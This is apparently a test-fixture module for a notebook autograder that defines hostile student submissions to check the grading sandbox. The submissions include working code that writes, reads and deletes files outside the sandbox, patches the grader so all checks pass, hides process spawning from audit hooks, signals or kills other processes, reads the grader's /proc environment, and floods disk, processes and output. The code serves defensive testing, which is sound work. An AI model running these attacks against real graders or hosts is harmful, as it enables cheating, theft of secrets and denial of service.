"""Hostile submissions against the grader, as a hostile student would write them.

The catalogue behind ``tests/test_grade_attacks.py`` (each attack graded beside honest
submissions, and run against the old Python-level layer alone) and ``benchmarks.grade
--attacks`` (a class graded with them). Each attack is the answer cell of lecture 01's
``responsibilities``; every step that reaches past the sandbox adds to ``breaches``, and
the cell then prints and raises the mark ``BREACH`` (never whole in the source, which
tracebacks quote), else it leaves the exercise unsolved. ``T`` holds the targets on the
host: a victim folder with a secret, another student's file, a bystander process, two
listeners, the grader's pid.
"""

import hashlib
import os
import socket
import textwrap
import threading
from pathlib import Path

import nbformat

ROOT = Path(__file__).resolve().parents[1]
RELEASE = nbformat.read(ROOT / "notebooks" / "01_em.ipynb", as_version=4)
SOLUTION = nbformat.read(ROOT / "solutions" / "01_em.ipynb", as_version=4)
SECRET = "SECRET-7f3a9c"
MARK = "BREACH"


PRELUDE = """\
import os, resource, signal, socket, subprocess, sys, types
breaches = []
root = os.open("/", os.O_RDONLY)


def rel(path):  # a path relative to root: the audit policy resolves it against the folder
    return str(path).lstrip("/")


def spawn(argv, **kw):  # subprocess.Popen without its audit event (_posixsubprocess raises none)
    quiet = types.SimpleNamespace(**{k: getattr(sys, k) for k in dir(sys) if k[:2] != "__"})
    quiet.audit = lambda *a: None
    real, subprocess.sys = subprocess.sys, quiet
    try:
        return subprocess.Popen(argv, **kw)
    finally:
        subprocess.sys = real
"""

EPILOGUE = """
if breaches:
    mark = "BRE" + "ACH"  # never whole in the source, which tracebacks quote
    print(mark, breaches)
    raise RuntimeError(mark + " " + "; ".join(breaches))


def responsibilities(X, weights, means, covs):
    raise NotImplementedError
"""

# name: (code using the dict T of targets, the attacker's expected reason)
ATTACKS = {
    "dirfd_write": (
        """
for path in T["plant"]:
    try:
        fd = os.open(rel(path), os.O_WRONLY | os.O_CREAT | os.O_TRUNC, dir_fd=root)
        os.write(fd, b"planted")
        os.close(fd)
        breaches.append("wrote " + path)
    except OSError:
        pass
for path in T["overwrite"]:
    try:
        fd = os.open(rel(path), os.O_WRONLY | os.O_TRUNC, dir_fd=root)
        os.write(fd, b"{}")
        os.close(fd)
        breaches.append("overwrote " + path)
    except OSError:
        pass
try:  # the grader's private library copy, wherever it is
    for name in os.listdir(os.open("tmp", os.O_RDONLY, dir_fd=root)):
        if name.startswith("dgm-grader-"):
            harness = f"tmp/{name}/lib/dgm/checks/harness.py"
            fd = os.open(harness, os.O_WRONLY | os.O_APPEND, dir_fd=root)
            os.write(fd, b"\\ndef run_check(n, *a, **k):\\n")
            os.write(fd, b"    return record(CheckResult(n, 'passed'))\\n")
            os.close(fd)
            breaches.append("patched " + harness)
except OSError:
    pass
""",
        "not implemented",
    ),
    "dirfd_read": (
        """
for path in T["read"]:
    try:
        fd = os.open(rel(path), os.O_RDONLY, dir_fd=root)
        print(os.read(fd, 1000))
        breaches.append("read " + path)
    except OSError:
        pass
""",
        "not implemented",
    ),
    "dirfd_remove_and_rename": (
        """
try:
    os.remove(rel(T["remove"]), dir_fd=root)
    breaches.append("removed " + T["remove"])
except OSError:
    pass
try:
    os.rename(rel(T["rename"]), rel(T["rename"] + ".moved"), src_dir_fd=root, dst_dir_fd=root)
    breaches.append("moved " + T["rename"])
except OSError:
    pass
""",
        "not implemented",
    ),
    "spawn": (
        """
child = f'''
import socket
open({T["spawned"]!r}, "w").write("spawned")
socket.create_connection(("127.0.0.1", {T["tcp"]}), timeout=2).sendall(b"spawned")
'''
try:
    p = spawn([sys.executable, "-c", child], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    if p.wait(timeout=20) == 0:
        breaches.append("a spawned program wrote outside and reached the network")
except Exception:
    pass
""",
        "not implemented",
    ),
    "network": (
        """
try:
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.sendmsg([b"udp"], [], 0, ("127.0.0.2", T["udp"]))
except OSError:
    pass
try:  # (socket.create_connection would import encodings.idna: refused in the checker)
    s = socket.socket()
    s.settimeout(2)
    s.connect(("127.0.0.1", T["tcp"]))
    s.sendall(b"tcp")
    breaches.append("tcp to the grader's loopback")
except OSError:
    pass
try:  # the kernel's own pyzmq (an import in the checker would be refused: marshal.loads)
    zmq = sys.modules["zmq"]
    z = zmq.Context().socket(zmq.STREAM)
    z.setsockopt(zmq.LINGER, 0)
    z.connect(f"tcp://127.0.0.1:{T['tcp']}")
    z.poll(2000, zmq.POLLOUT)
except Exception:
    pass
""",
        "not implemented",
    ),
    "signals": (
        """
try:
    signal.pidfd_send_signal(os.pidfd_open(T["bystander"]), signal.SIGKILL)
    breaches.append("killed a process outside")
except OSError:
    pass
try:
    os.pidfd_open(T["grader"])
    breaches.append("opened the grader's pidfd")
except OSError:
    pass
try:
    resource.prlimit(T["bystander"], resource.RLIMIT_CPU, (1, 1))
    breaches.append("limited a process outside")
except (OSError, ValueError):
    pass
""",
        "not implemented",
    ),
    "proc": (
        """
for what in ("environ", "cmdline"):
    try:
        open(f"/proc/{T['grader']}/{what}", "rb").read()
        breaches.append("read the grader's " + what)
    except OSError:
        pass
try:
    os.readlink(f"/proc/{T['grader']}/cwd")
    breaches.append("saw the grader's cwd")
except OSError:
    pass
""",
        "not implemented",
    ),
    "rlimit": (
        """
try:
    resource.setrlimit(resource.RLIMIT_DATA, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
    breaches.append("raised its own memory limit")
except (OSError, ValueError):
    pass
""",
        "not implemented",
    ),
    "shm": (
        """
try:
    with open(T["shm"], "wb") as f:
        f.write(b"x" * 2**24)
    if os.path.exists(T["shm_other"]):
        breaches.append("found another submission's /dev/shm file")
except OSError:
    pass
""",
        "not implemented",
    ),
    "detached": (
        """
try:  # a program that outlives the cell and holds its stdout
    spawn(["sleep", T["sleep"]], start_new_session=True, env={})
except OSError:
    pass
""",
        "not implemented",
    ),
    "bomb": (
        """
started = []
try:  # as many processes as it is allowed, each outliving the cell
    for _ in range(600):
        started.append(spawn(["sleep", T["bomb_sleep"]], env={}, stdout=-3, stderr=-3))
except OSError:
    pass
if len(started) >= 600:
    breaches.append(f"started {len(started)} processes")
""",
        "not implemented",
    ),
    "disk": (
        """
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
written = 0
try:
    with open("big", "wb") as f:
        for _ in range(1024):
            written += f.write(b"x" * 2**20)
            f.flush()
except OSError:
    pass
if written > 300 * 2**20:
    breaches.append(f"wrote a {written >> 20} MB file")
os.path.exists("big") and os.remove("big")
""",
        "not implemented",
    ),
    "files": (
        """
# many files, each far below the largest file allowed, together more than the private space
written = 0
try:
    for i in range(450):
        with open(f"fill-{i}", "wb") as f:
            written += f.write(b"x" * 2**20)
except OSError:
    pass
if written > 400 * 2**20:
    breaches.append(f"wrote {written >> 20} MB in many files")
for i in range(450):
    os.path.exists(f"fill-{i}") and os.remove(f"fill-{i}")
""",
        "not implemented",
    ),
    "output": (
        """
if "ipykernel" in sys.modules:
    print("y" * 10**9)  # 1 GB into the executed notebook
else:
    for fd in range(1, 30):  # every descriptor: 300 MB each, no newline, no frame
        try:
            for _ in range(300):
                os.write(fd, b"x" * 2**20)
        except OSError:
            pass
    print("y" * 10**9)  # 1 GB, into the process's own memory
""",
        "error",
    ),
    "executed_link": (
        """
# the executed copy replaced by a link to a file outside: the grader would copy it
for name in os.listdir("."):
    if name.startswith("executed-"):
        spawn(["ln", "-sfn", T["secret"], name]).wait()  # os.symlink: refused by the hook
""",
        "not implemented",
    ),
}


def cells_of(nb, *ids):
    keep = []
    for c in nb.cells:
        gid = c.metadata.get("nbgrader", {}).get("grade_id")
        if gid in ids or (c.cell_type == "code" and c.source.startswith("import math")):
            keep.append(c)
    return keep


def tiny(answer: str | None = None):
    """Lecture 01 cut to its imports and one exercise (responsibilities and its check)."""
    nb = nbformat.from_dict(RELEASE)
    nb.cells = cells_of(nb, "responsibilities", "check_responsibilities")
    if answer is not None:
        cell = next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("solution"))
        cell.source = answer
    return nb


def solved():
    source = next(
        c.source
        for c in SOLUTION.cells
        if c.metadata.get("nbgrader", {}).get("grade_id") == "responsibilities"
    )
    return tiny(source)


def attack_source(name: str, targets: dict) -> str:
    code, _ = ATTACKS[name]
    return f"T = {targets!r}\n" + PRELUDE + textwrap.dedent(code) + EPILOGUE


class Listeners:
    """A TCP listener on 127.0.0.1 and a UDP one on 127.0.0.2; what either received."""

    def __init__(self):
        self.received: list[bytes] = []
        self.tcp = socket.create_server(("127.0.0.1", 0))
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("127.0.0.2", 0))
        self.ports = {"tcp": self.tcp.getsockname()[1], "udp": self.udp.getsockname()[1]}
        for target in (self._accept, self._datagrams):
            threading.Thread(target=target, daemon=True).start()

    def _accept(self):
        while True:
            try:
                conn, _ = self.tcp.accept()
            except OSError:
                return
            self.received.append(b"connection:" + conn.recv(100))
            conn.close()

    def _datagrams(self):
        while True:
            try:
                self.received.append(self.udp.recv(100))
            except OSError:
                return

    def close(self):
        self.tcp.close()
        self.udp.close()


def host_targets(tmp: Path, listeners: Listeners, bystander: int, honest: Path) -> dict:
    victim = tmp / "victim"
    victim.mkdir(exist_ok=True)
    (victim / "secret.txt").write_text(SECRET)
    for name in ("canary", "canary2"):
        (victim / name).write_text("canary")
    tag = tmp.name
    return {
        "plant": [str(victim / "planted")],
        "overwrite": [str(honest)],
        "read": [str(victim / "secret.txt"), str(honest)],
        "remove": str(victim / "canary"),
        "rename": str(victim / "canary2"),
        "spawned": str(victim / "spawned"),
        "secret": str(victim / "secret.txt"),
        "grader": os.getpid(),
        "bystander": bystander,
        "shm": f"/dev/shm/dgm-attack-{tag}",
        "shm_other": f"/dev/shm/dgm-attack-{tag}-other",
        "sleep": "299.5",
        "bomb_sleep": "59.5",
        **listeners.ports,
    }


def tree_digest(*folders: Path) -> dict:
    return {
        str(p): hashlib.sha256(p.read_bytes()).hexdigest()
        for f in folders
        for p in sorted(f.rglob("*"))
        if p.is_file() and "__pycache__" not in p.parts
    }


def leftovers(*marks: str) -> list[str]:
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmd = Path(f"/proc/{entry}/cmdline").read_bytes().replace(b"\0", b" ").decode()
            except OSError:
                continue
            if any(m in cmd.split() for m in marks):
                found.append(cmd)
    return found


def kill_marked(mark: str) -> None:
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            try:
                cmd = Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0")
            except OSError:
                continue
            if cmd[:2] == [b"sleep", mark.encode()]:
                try:
                    os.kill(int(entry), 9)
                except OSError:
                    pass
